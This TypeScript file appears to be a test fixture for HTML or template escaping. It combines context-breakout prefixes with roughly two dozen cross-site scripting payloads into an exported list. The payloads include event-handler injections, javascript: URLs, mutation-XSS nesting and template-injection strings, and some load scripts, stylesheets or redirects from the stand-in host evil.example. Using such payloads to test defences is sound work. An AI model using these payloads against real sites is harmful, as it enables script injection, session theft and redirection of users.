/** Sequences that try to break out of any context of a text: an attribute, a title, a script, a comment. */
const WAYS_OUT: readonly ((act: string) => string)[] = [
  (act) => act,
  (act) => `">${act}<"`,
  (act) => `'/>${act}`,
  (act) => `</title></style></textarea></noscript>${act}`,
  (act) => `</script>${act}<!--`,
  (act) => `"]}</script><!--<script>${act}`,
  (act) => `--!>]]>${act}`,
  (act) => `x\u2028*/}\`;${act}//`,
];

/** Payloads that run a script or leave for another site. Every page of the test defines `ran`. */
const ACTS: readonly string[] = [
  '<script>ran()</script>',
  '<script src=//evil.example/a.js></script>',
  '<img src=x onerror=ran()>',
  '<img src=//evil.example/pixel.gif>',
  '<svg onload=ran()>',
  '<svg><script>ran&#40;)</script></svg>',
  '<svg><animate onbegin=ran() attributeName=x dur=1s>',
  '<body onload=ran()>',
  '<input autofocus onfocus=ran()>',
  '<details open ontoggle=ran()>x</details>',
  '<video><source onerror=ran()></video>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<object data="data:text/html,<script>ran()</script>"></object>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<base href=//evil.example/>',
  '<style>@import "//evil.example/a.css";</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<a href="javascript:ran()" autofocus onfocus=ran()>x</a>',
  'javascript:ran() https://evil.example/"onmouseover="ran()',
  'https://evil.example/?q=<img/src=x/onerror=ran()>',
  '&lt;img src=x onerror=ran()&gt; %3Cscript%3Eran()%3C/script%3E',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the words themselves are what a template would run.
  "{{constructor.constructor('ran()')()}} ${ran()} <%= ran() %>",
  '\');ran();(\' ");ran();(" \\x3cscript\\x3eran()\\x3c/script\\x3e __proto__',
];

export const HOSTILE_WORDS = ACTS.flatMap((act) => WAYS_OUT.map((wayOut) => wayOut(act)));
